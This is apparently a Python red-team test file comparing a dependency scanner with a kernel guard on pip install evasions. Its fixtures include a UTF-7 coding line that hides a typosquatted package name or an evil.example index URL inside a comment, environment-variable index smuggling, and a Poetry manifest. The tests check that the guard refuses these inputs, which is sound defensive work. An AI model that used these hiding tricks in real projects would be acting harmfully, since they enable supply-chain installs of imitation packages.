"""Red team 50c: files and cells warden-scan and the kernel guard decide differently.

The static halves (warden-scan's verdicts) are src/deps/redteam50c-static.spec.ts; this file
holds the kernel halves and the controls showing what pip itself reads.

R50c-1 (HIGH, static): a requirements file with a PEP 263 coding line. pip's ``auto_decode``
honours ``# -*- coding: utf-7 -*-`` in the first two lines, so ``#x +AAo-torcj`` is a comment
followed by the line ``torcj`` (or ``--index-url URL``) to pip. The kernel decodes the file as
pip does (``requirements.pip_decode``, red team 37c R37c-3) and refuses; warden-scan reads the
bytes as UTF-8 (src/cli/dependencies.ts, src/deps/scan.ts ``FileTexts.read``): one comment,
clean. CI's ``warden-scan`` passes a file ``pip install -r`` then installs an imitation from.

R50c-2 (MED): ``!IDX=https://evil.example/simple pip install -r reqs.txt`` with ``reqs.txt``
holding ``--index-url ${IDX}``. pip expands ``${IDX}`` in a requirements file's lines from its
environment, which the line sets. The kernel expands with the start's environment and refuses
the index; warden-scan reads pip's requirements files with the cell's environment only
(src/deps/commands.ts ``requestOfInvocation``: ``pipRequest(inv.args, context, ...)`` is not
given the line's ``merged`` environment, uv's request is), so the option names the literal
``${IDX}`` and the cell is clean.

R50c-3 (MED, the other way round): a Poetry project (``[tool.poetry.dependencies]``, no
``[project]`` table, poetry-core backend) whose dependencies name ``torcj``. warden-scan's
manifest scan reads Poetry's table and refuses it; ``%pip install .`` in the kernel reads only
``[project]`` (installs/toml_files.add_project via local_projects._read), so the install runs
and poetry-core's metadata makes pip install ``torcj``. Unlike a ``dynamic`` project (declared
open: its own build code runs anyway), the list is static data in the file.
"""

import os

from pip._internal.req.req_file import expand_env_variables
from pip._internal.utils.encoding import auto_decode
from test_install_vectors import outcome

UTF7_NAME = "# -*- coding: utf-7 -*-\n#x +AAo-torcj\nnumpy\n"
UTF7_INDEX = "# -*- coding: utf-7 -*-\n#x +AAo---index-url https://evil.example/simple\nnumpy\n"


def _decide(files, command, tmp_path):
    return outcome({"policy": {}, "files": files, "command": command}, tmp_path)


def test_r50c_1_control_pip_reads_the_hidden_lines():
    assert "\ntorcj\n" in auto_decode(UTF7_NAME.encode())
    assert "\n--index-url https://evil.example/simple\n" in auto_decode(UTF7_INDEX.encode())
    # read as UTF-8 (warden-scan's reading) both are comments and numpy
    assert "\ntorcj\n" not in UTF7_NAME and "\n--index-url" not in UTF7_INDEX


def test_r50c_1_control_the_kernel_refuses_them(tmp_path):
    found = _decide({"requirements.txt": UTF7_NAME}, "pip install -r requirements.txt", tmp_path)
    assert "install-imitation-name" in found["rules"] and not found["runs"]
    found = _decide({"r2.txt": UTF7_INDEX}, "pip install -r r2.txt", tmp_path)
    assert "install-index-not-allowed" in found["rules"] and not found["runs"]


def test_r50c_2_control_pip_expands_the_variable_and_the_kernel_refuses(tmp_path, monkeypatch):
    monkeypatch.setitem(os.environ, "IDX", "https://evil.example/simple")
    assert list(expand_env_variables([(1, "--index-url ${IDX}")])) == [
        (1, "--index-url https://evil.example/simple")
    ]
    files = {"reqs.txt": "--index-url ${IDX}\nnumpy\n"}
    for line in (
        "IDX=https://evil.example/simple pip install -r reqs.txt",
        "export IDX=https://evil.example/simple; pip install -r reqs.txt",
    ):
        found = _decide(files, line, tmp_path)
        assert "install-index-not-allowed" in found["rules"] and not found["runs"], line


POETRY = """[tool.poetry]
name = "proj"
version = "0.1.0"
description = ""
authors = ["A <a@b.c>"]

[tool.poetry.dependencies]
python = "^3.11"
torcj = "*"

[build-system]
requires = ["poetry-core"]
build-backend = "poetry.core.masonry.api"
"""


def test_r50c_3_the_kernel_decides_a_poetry_projects_dependencies(tmp_path):
    for command in ("pip install .", "pip install -e ."):
        found = _decide({"pyproject.toml": POETRY}, command, tmp_path)
        assert not found["runs"], (command, found)
